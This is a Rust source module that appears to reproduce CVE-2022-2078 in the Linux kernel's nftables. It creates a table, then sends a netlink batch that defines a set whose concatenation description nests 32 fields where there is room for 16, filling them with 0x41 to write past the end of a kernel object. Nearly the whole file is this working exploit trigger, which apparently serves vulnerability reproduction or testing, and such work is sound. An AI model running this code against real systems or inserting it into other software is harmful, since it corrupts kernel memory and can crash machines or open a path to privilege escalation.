//! CVE-2022-2078: the lengths of a concatenation's fields are stored one behind the other, without a
//! look at how many there are.

use std::io;

use crate::{attribute::Attributes, netlink::Batch, nft};

const TABLE: &str = "otf_fields";
/// Fields that there is room for.
const ROOM: usize = 16;
/// Further ones: over the rest of the object, and over what the compiler put behind it to notice.
const MORE: usize = 16;

/// A table.
pub fn setup() -> io::Result<()> {
    Batch::new()
        .add(
            libc::NFT_MSG_NEWTABLE,
            nft::IP,
            nft::CREATE,
            &nft::table(TABLE),
        )
        .send()
}

/// A set that is refused in the end, as its fields have not the length of its key together.
pub fn attack() -> io::Result<()> {
    let field = Attributes::new().number(1, 0x41);
    let fields = (0..ROOM + MORE).fold(Attributes::new(), |fields, _| fields.nest(1, &field));
    let description = Attributes::new().nest(2, &fields);
    let set =
        nft::set(TABLE, "fields", nft::SET_INTERVAL | nft::SET_CONCAT, 64, 1).nest(9, &description);
    Batch::new()
        .add(libc::NFT_MSG_NEWSET, nft::IP, nft::CREATE, &set)
        .send()
}
